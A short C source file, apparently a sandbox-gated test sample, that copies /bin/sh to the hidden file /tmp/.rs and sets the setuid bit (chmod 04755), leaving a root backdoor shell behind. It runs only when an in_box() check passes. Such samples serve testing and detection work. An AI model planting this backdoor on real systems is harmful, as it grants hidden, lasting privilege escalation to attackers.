// SPDX-License-Identifier: MIT
// Leaves a set-user-id copy of the shell behind, from C: chmod 04755 on
// a copy it made.
#include <stdio.h>
#include <sys/stat.h>

#include "box_only.h"

int main(void)
{
	char buf[4096];
	size_t n;
	if (!in_box())
		return 1;
	FILE *in = fopen("/bin/sh", "rb"), *out = fopen("/tmp/.rs", "wb");
	if (!in || !out)
		return 0;
	while ((n = fread(buf, 1, sizeof buf, in)) > 0)
		fwrite(buf, 1, n, out);
	fclose(in);
	fclose(out);
	if (chmod("/tmp/.rs", 04755) != 0)
		perror("chmod");
	return 0;
}
